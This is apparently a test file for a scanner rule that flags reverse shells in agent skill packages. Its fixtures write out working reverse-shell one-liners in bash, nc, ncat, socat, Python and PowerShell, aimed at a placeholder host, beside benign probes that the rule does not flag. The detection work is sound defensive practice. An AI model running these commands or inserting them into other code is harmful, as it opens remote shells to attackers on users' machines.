import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rule } from '../../../../src/core/modules/sentinel/reverse-shell.ts';
import { loadSkill } from '../../../../src/core/skill/load.ts';
import { scanDocument } from '../../../../src/core/engine/scan.ts';
import { scan, summary } from './helpers.ts';

test('reverse-shell: one-liners in a script are errors', () => {
  const sh = [
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'nc -e /bin/sh 10.0.0.1 4444',
    'ncat 10.0.0.1 4444 --exec /bin/bash',
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f',
    'socat tcp:10.0.0.1:4444 exec:/bin/sh,pty,stderr',
    "python3 -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
  ].join('\n');
  const f = scan({ 'scripts/x.sh': sh }, rule);
  assert.deepEqual(summary(f), ['scripts/x.sh:1:1 error', 'scripts/x.sh:2:1 error', 'scripts/x.sh:3:1 error', 'scripts/x.sh:4:12 error', 'scripts/x.sh:5:1 error', 'scripts/x.sh:6:1 error']);
  assert.ok(f.every((x) => x.category === 'malicious-command' && x.data?.counted === true));
});

test('reverse-shell: Python socket + dup2 across lines, PowerShell TCPClient + iex', () => {
  const py = ['import socket, os, subprocess', 's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)', 's.connect((HOST, PORT))', 'os.dup2(s.fileno(), 0)', 'os.dup2(s.fileno(), 1)', 'pty.spawn("/bin/sh")', ''].join('\n');
  const ps = ['$c = New-Object System.Net.Sockets.TCPClient("10.0.0.1", 4444)', '$s = $c.GetStream()', 'iex $data', ''].join('\n');
  const f = scan({ 'scripts/r.py': py, 'scripts/r.ps1': ps }, rule);
  assert.deepEqual(summary(f), ['scripts/r.ps1:1:6 error', 'scripts/r.py:4:1 error']);
});

test('reverse-shell: health checks, port probes and plain sockets are not findings', () => {
  const sh = ['exec 3<>/dev/tcp/localhost/80', 'nc -zv example.com 443', 'echo ok | nc -q 1 localhost 9000', ''].join('\n');
  const py = ['import socket', 's = socket.create_connection(("example.com", 443))', 's.sendall(b"ping")', ''].join('\n');
  assert.deepEqual(scan({ 'scripts/h.sh': sh, 'scripts/p.py': py }, rule), []);
});

test('reverse-shell: a reference that documents backdoors reports at info only', () => {
  const md = ['# Reverse Shells and Backdoors', '', '```bash', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '```', ''].join('\n');
  const f = scan({ 'references/notes.md': md }, rule);
  assert.deepEqual(summary(f), ['references/notes.md:4:1 info']);
  assert.equal(f[0].data?.reason, 'attack-doc');
});

test('reverse-shell corpus: getsentry dangerous-code-patterns.md is documentation (not counted)', async () => {
  const doc = await loadSkill('/work/shared/corpus/getsentry__skills/skill-scanner');
  const f = scanDocument(doc, { rules: [rule] }).findings;
  const lines = f.filter((x) => x.file === 'references/dangerous-code-patterns.md').map((x) => x.range.start.line);
  assert.deepEqual(lines, [46, 47]);
  assert.ok(f.every((x) => x.data?.counted === false));
});
